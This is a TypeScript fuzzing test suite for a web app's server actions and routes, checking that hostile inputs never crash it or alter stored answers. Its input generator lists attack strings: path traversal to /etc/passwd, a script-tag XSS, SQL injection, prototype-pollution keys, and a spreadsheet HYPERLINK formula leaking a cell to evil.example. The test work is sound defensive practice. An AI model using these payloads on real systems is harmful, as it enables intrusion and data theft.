import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import type { SessionUser } from "@/lib/auth/access";
import { allItems, type ItemId } from "@/lib/questionnaire/lookup";

/*
 * The fuzzing harness of issue 11 (OWASP ASVS 5.1 / 7.4): generated inputs, hostile and nearly valid, sent
 * to every server boundary a user can reach (save answer, submit, review, dataset import, administration,
 * the route handlers' query strings), as every role, against a real temporary database (SQLite, and
 * PostgreSQL in npm test).
 * Asserted for every input: nothing throws (a throw is a 500 in production), every refusal names a message
 * of the catalogue, and the stored answers of a known submitted assessment stay byte-identical.
 * Seeded: FUZZ_SEED=<n> reproduces a run (a failure prints its seed and path); FUZZ_RUNS scales it.
 */
const SEED = Number(process.env.FUZZ_SEED ?? 20261202);
const SCALE = Number(process.env.FUZZ_RUNS_SCALE ?? 1);
const runs = (n: number) => Math.max(1, Math.round(n * SCALE));
let inputsSent = 0;

const { testDatabase, testDb } = await vi.hoisted(async () => {
  const { createTestDatabase } = await import("@/lib/testing/test-database");
  const testDatabase = await createTestDatabase("fuzz");
  return { testDatabase, testDb: testDatabase.client };
});
vi.mock("@/lib/db", () => ({ db: testDb }));
vi.mock("@/lib/session/guards", () => ({ checkUser: vi.fn(), getCurrentUser: vi.fn() }));
vi.mock("next/cache", () => ({ revalidatePath: vi.fn(), revalidateTag: vi.fn() }));

const { checkUser, getCurrentUser } = await import("@/lib/session/guards");
const { fail, ok } = await import("@/lib/result");
const { decideAccess } = await import("@/lib/auth/access");
const { getMessages } = await import("@/lib/i18n/messages");
const assessmentActions = await import("@/lib/actions/assessments");
const reviewActions = await import("@/lib/actions/review");
const datasetActions = await import("@/lib/actions/datasets");
const adminActions = await import("@/lib/actions/admin");
const data = await import("@/lib/data/assessments");
const answersRoute = await import("@/app/api/assessments/[assessmentId]/answers/route");
const commentsRoute = await import("@/app/api/assessments/[assessmentId]/comments/route");
const exportsRoute = await import("@/app/api/exports/assessments/route");
const templateRoute = await import("@/app/api/datasets/template/route");
const codebookRoute = await import("@/app/api/exports/codebook/route");
const reportRoute = await import("@/app/api/reports/[assessmentId]/pdf/route");
const { NextRequest } = await import("next/server");

function user(id: string, role: SessionUser["role"], agencyId: string | null): SessionUser {
  return { id, email: `${id}@fuzz.example`, name: id, role, agencyId, language: "en", sessionId: `session-${id}` } as SessionUser;
}
const alice = user("alice", "RESPONDENT", "agency-a");
const bob = user("bob", "RESPONDENT", "agency-b");
const coordinator = user("coord", "COORDINATOR", null);
const admin = user("admin", "ADMIN", null);
const PEOPLE = [null, alice, bob, coordinator, admin] as const;

/** checkUser as the real guard decides it, for the user the generator picked (null: signed out). */
function actAs(who: SessionUser | null) {
  vi.mocked(getCurrentUser).mockResolvedValue(who);
  vi.mocked(checkUser).mockImplementation(async (rule = {}) => {
    const decision = decideAccess(who, rule);
    if (decision === "unauthenticated") return fail("unauthenticated");
    if (decision === "forbidden") return fail("forbidden");
    return ok(who!);
  });
}

const english = getMessages("en") as Record<string, unknown>;
function hasMessage(key: string): boolean {
  let node: unknown = english;
  for (const part of key.split(".")) node = (node as Record<string, unknown> | undefined)?.[part];
  return typeof node === "string" && node.length > 0;
}

/** A refusal must carry a catalogue message; a success is fine. `redirect()` (a success) throws by design. */
async function expectAnswered(call: () => Promise<unknown>): Promise<void> {
  inputsSent += 1;
  let result: unknown;
  try {
    result = await call();
  } catch (error) {
    if (String((error as { digest?: unknown })?.digest ?? "").startsWith("NEXT_REDIRECT")) return;
    throw error;
  }
  const outcome = result as { ok?: boolean; error?: unknown };
  if (outcome.ok === false) {
    expect(typeof outcome.error, JSON.stringify(result).slice(0, 300)).toBe("string");
    expect(hasMessage(outcome.error as string), `no message for ${String(outcome.error)}`).toBe(true);
  }
}

/** A route handler: never a 5xx, and every 4xx says why in its JSON body. */
async function expectHttpAnswered(call: () => Promise<Response>): Promise<void> {
  inputsSent += 1;
  const response = await call();
  expect(response.status, `status ${response.status}`).toBeLessThan(500);
  if (response.status >= 400) {
    const body = (await response.json()) as { error?: unknown };
    expect(typeof body.error).toBe("string");
    expect((body.error as string).length).toBeGreaterThan(0);
  } else {
    await response.arrayBuffer();
  }
}

// ---- Generators -------------------------------------------------------------------------------------
const hostileString = fc.oneof(
  fc.string({ maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.constantFrom(
    "",
    " ",
    "%ZZ",
    "../../etc/passwd",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "' OR 1=1 --",
    "\u0000",
    "\ud800",
    "กรมการจัดหางาน",
    "x".repeat(5000),
    "__proto__",
    "constructor",
  ),
);
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant(undefined),
  fc.array(hostileString, { maxLength: 5 }),
  fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
  fc.anything({ maxDepth: 2 }),
);
const itemIds = allItems.map((item) => item.id);
const optionValues = [...new Set(allItems.flatMap((item) => ("options" in item ? [...item.options] : [])))];

let knownId = "";
let draftId = "";
let knownAnswers = "";
const assessmentRef = () => fc.oneof(fc.constantFrom(knownId, draftId, "no-such-assessment"), hostileString);
const who = fc.constantFrom(...PEOPLE);

async function answersOf(assessmentId: string): Promise<string> {
  const rows = await testDb.answer.findMany({ where: { assessmentId }, orderBy: { itemId: "asc" } });
  return JSON.stringify(rows);
}

beforeAll(async () => {
  await testDatabase.migrate();
  for (const [id, region] of [["agency-a", "LAC"], ["agency-b", "AP"]] as const) {
    await testDb.agency.create({ data: { id, name: id, countryCode: "MX", region } });
  }
  for (const u of [alice, bob, coordinator, admin]) {
    await testDb.user.create({ data: { id: u.id, email: u.email, name: u.name, role: u.role, agencyId: u.agencyId } });
  }
  // The known assessment: every item answered, then submitted (alice's agency).
  const created = await data.createAssessment(alice, { round: 2030 });
  if (!created.ok) throw new Error(created.error);
  knownId = created.data.id;
  actAs(alice);
  for (const item of allItems.filter((candidate) => candidate.required)) {
    const value = item.kind === "multi" ? ["none"] : "dont_know";
    const saved = await data.saveAnswer(alice, { assessmentId: knownId, itemId: item.id as ItemId, value, otherText: null });
    if (!saved.ok) throw new Error(`${item.id}: ${saved.error}`);
  }
  const submitted = await data.submitAssessment(alice, knownId);
  if (!submitted.ok) throw new Error(submitted.error);
  const draft = await data.createAssessment(alice, { round: 2031 });
  if (!draft.ok) throw new Error(draft.error);
  draftId = draft.data.id;
  knownAnswers = await answersOf(knownId);
  fc.configureGlobal({ seed: SEED, endOnFailure: true });
}, 120_000);

afterAll(async () => {
  // The known assessment's stored answers, byte for byte, after everything below.
  expect(await answersOf(knownId)).toBe(knownAnswers);
  await testDatabase.drop();
  console.log(`fuzz: ${inputsSent} inputs, seed ${SEED}`);
});

describe(`fuzzing the server boundaries (seed ${SEED})`, () => {
  it("autosave of an answer and a comment (JSON routes): hostile and nearly valid inputs", async () => {
    const input = fc.oneof(
      hostileValue,
      fc.record({
        assessmentId: assessmentRef(),
        itemId: fc.oneof(fc.constantFrom(...itemIds), hostileString),
        value: fc.oneof(fc.constantFrom(...optionValues), hostileValue),
        otherText: fc.option(hostileString),
      }),
    );
    await fc.assert(
      fc.asyncProperty(who, input, fc.oneof(fc.nat(3), hostileValue), async (person, payload, baseVersion) => {
        actAs(person);
        // The autosave routes take the assessment from the path and the rest from the JSON body.
        const { assessmentId, ...body } = (payload ?? {}) as { assessmentId?: unknown };
        const params = Promise.resolve({ assessmentId: String(assessmentId) });
        const postJson = (kind: string, json: unknown) =>
          new NextRequest(`http://app.test/api/assessments/x/${kind}`, { method: "POST", body: JSON.stringify(json) ?? "" });
        await expectHttpAnswered(() => answersRoute.POST(postJson("answers", { ...body, baseVersion }), { params }));
        await expectHttpAnswered(() => commentsRoute.POST(postJson("comments", { sectionId: "strategy", comment: (payload as { value?: unknown })?.value }), { params }));
      }),
      { numRuns: runs(400) },
    );
    expect(await answersOf(knownId)).toBe(knownAnswers);
  });

  it("submit: any assessment reference, any role", async () => {
    const input = fc.oneof(hostileValue, fc.record({ assessmentId: assessmentRef() }));
    await fc.assert(
      fc.asyncProperty(who, input, async (person, payload) => {
        actAs(person);
        await expectAnswered(() => assessmentActions.submitAssessmentAction(payload));
      }),
      { numRuns: runs(200) },
    );
    expect(await answersOf(knownId)).toBe(knownAnswers);
  });

  it("review: comments, returns and approvals", async () => {
    const input = fc.oneof(
      hostileValue,
      fc.record({ assessmentId: assessmentRef(), reason: hostileValue, body: hostileValue, text: hostileValue, itemId: fc.option(fc.constantFrom(...itemIds)) }),
    );
    await fc.assert(
      fc.asyncProperty(who, input, fc.constantFrom("comment", "return", "approve"), async (person, payload, verb) => {
        actAs(person);
        const action =
          verb === "comment" ? reviewActions.addReviewCommentAction : verb === "return" ? reviewActions.returnAssessmentAction : reviewActions.approveAssessmentAction;
        await expectAnswered(() => action(payload));
      }),
      { numRuns: runs(300) },
    );
    expect(await answersOf(knownId)).toBe(knownAnswers);
  });

  it("dataset import: CSV and JSON files, well-formed or not", async () => {
    const csvLine = fc.array(fc.oneof(hostileString, fc.constantFrom("meta", "distribution", "name", "strategy.national", "0.5")), { maxLength: 20 }).map((cells) => cells.join(","));
    const text = fc.oneof(
      hostileValue,
      fc.array(csvLine, { maxLength: 8 }).map((lines) => ["record,item_or_dimension,dataset_id,dataset_version", ...lines].join("\n")),
      fc.json(),
    );
    await fc.assert(
      fc.asyncProperty(who, fc.oneof(fc.constantFrom("csv", "json"), hostileString), text, async (person, format, body) => {
        actAs(person);
        await expectAnswered(() => datasetActions.importDatasetAction({ format, text: body }));
        await expectAnswered(() => datasetActions.publishDatasetAction(body));
      }),
      { numRuns: runs(300) },
    );
  });

  it("administration: agencies and users", async () => {
    const record = fc.record({
      id: fc.oneof(fc.constantFrom("alice", "bob", "agency-a", "no-such-id"), hostileString),
      name: hostileValue,
      email: fc.oneof(fc.emailAddress(), hostileString),
      role: fc.oneof(fc.constantFrom("RESPONDENT", "COORDINATOR", "ADMIN"), hostileString),
      agencyId: fc.oneof(fc.constantFrom("agency-a", "agency-b"), hostileValue),
      countryCode: fc.oneof(fc.constantFrom("MX", "TH", "FR"), hostileString),
      region: fc.oneof(fc.constantFrom("LAC", "AP", "AFRICA"), hostileString),
      active: hostileValue,
      language: fc.oneof(fc.constantFrom("en", "fr", "es"), hostileString),
    }, { requiredKeys: [] });
    const actions = [
      adminActions.createAgencyAction,
      adminActions.updateAgencyAction,
      adminActions.setAgencyActiveAction,
      adminActions.inviteUserAction,
      adminActions.updateUserAction,
      adminActions.setUserActiveAction,
      adminActions.forcePasswordResetAction,
      adminActions.resendInvitationAction,
    ];
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(null, alice, coordinator, admin), fc.oneof(hostileValue, record), fc.nat(actions.length - 1), async (person, payload, index) => {
        actAs(person);
        await expectAnswered(() => actions[index]!(payload));
      }),
      { numRuns: runs(400) },
    );
    // Nobody above may have locked the known assessment's owner out or changed her agency's answers.
    expect(await answersOf(knownId)).toBe(knownAnswers);
  });

  it("route handlers: any query string, any role", async () => {
    const query = fc.array(fc.tuple(fc.oneof(fc.constantFrom("format", "status", "region", "country", "round", "q", "lang", "dataset"), hostileString), fc.oneof(fc.constantFrom("csv", "json", "pdf", "en", "xx", "2026", "LAC"), hostileString)), { maxLength: 6 });
    const raw = fc.oneof(
      query.map((pairs) => new URLSearchParams(pairs).toString()),
      fc.constantFrom("%ZZ", "format=%ZZ", "q=%E0%A4%A", "round=1e309", "round=-1", "status=DRAFT&status=APPROVED&status=%00", "lang=en&lang=fr"),
    );
    await fc.assert(
      fc.asyncProperty(who, raw, fc.oneof(fc.constantFrom("no-such-assessment", draftId), hostileString), async (person, search, assessmentId) => {
        actAs(person);
        const url = (route: string) => `http://app.test${route}?${search}`;
        await expectHttpAnswered(() => exportsRoute.GET(new Request(url("/api/exports/assessments"))));
        await expectHttpAnswered(() => templateRoute.GET(new Request(url("/api/datasets/template"))));
        await expectHttpAnswered(() => reportRoute.GET(new NextRequest(url(`/api/reports/x/pdf`)), { params: Promise.resolve({ assessmentId }) }));
      }),
      { numRuns: runs(250) },
    );
    actAs(coordinator);
    await expectHttpAnswered(() => codebookRoute.GET());
  });

  it("sent at least 2,000 inputs", () => {
    expect(inputsSent).toBeGreaterThanOrEqual(runs(2000));
  });
});
